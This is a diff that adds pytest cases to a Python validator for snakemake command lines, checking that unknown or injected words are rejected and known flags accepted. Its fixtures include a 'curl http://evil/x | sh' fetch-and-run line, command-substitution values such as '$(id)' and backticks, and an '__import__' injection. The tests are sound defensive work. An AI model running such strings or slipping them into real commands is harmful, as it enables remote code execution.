@@ -443,6 +443,39 @@ def test_a_command_is_that_of_the_call_with_the_case_alone() -> None:
     assert again.call_of(run(), calls) is None, "what was imported was measured by no call"
 
 
+@pytest.mark.parametrize(
+    "words",
+    [
+        "snakemake --cores all; curl http://evil/x | sh",
+        "curl http://evil/x",
+        "/tmp/snakemake --cores all",
+        "snakemake --cores 'all $(id)'",
+        "snakemake --cores all --snakefile /tmp/evil",
+        "snakemake -s/tmp/evil --cores all",
+        "snakemake --cores all --default-resources 'mem=__import__(1)'",
+        "snakemake --cores all --workflow-profile /tmp/evil",
+        "snakemake --cores all --config suite='$(id)'",
+        "snakemake --cores all --config suite='`id`'",
+        "snakemake --cores all --config suite='a\nb'",
+        "snakemake --cores all --config evil=1",
+        "snakemake --cores all --config=suite='x;y'",
+        "snakemake --cores all --config interpreters='{pytorch: /tmp/x}'",
+        "snakemake --cores all clean",
+        "snakemake --cores",
+        "",
+    ],
+)
+def test_a_strangers_command_is_not_offered(words: str) -> None:
+    with pytest.raises(ValueError, match=r"unknown word|another program"):
+        again.command(Call("2030-01-01T00:00:00Z", "mine", words))
+
+
+@pytest.mark.parametrize("words", ["-c4 -k", "--cores=all -j 8", "-call --config model=my.py:Net"])
+def test_a_command_of_known_words_is_offered(words: str) -> None:
+    call = Call("2030-01-01T00:00:00Z", "mine", f"snakemake {words}")
+    assert again.command(call).startswith("snakemake -")
+
+
 def test_a_case_has_the_name_that_its_plan_has() -> None:
     one = run(sequence_length=128, arm="fast", accumulation=2, nodes=2)
     case = matrix.Case(
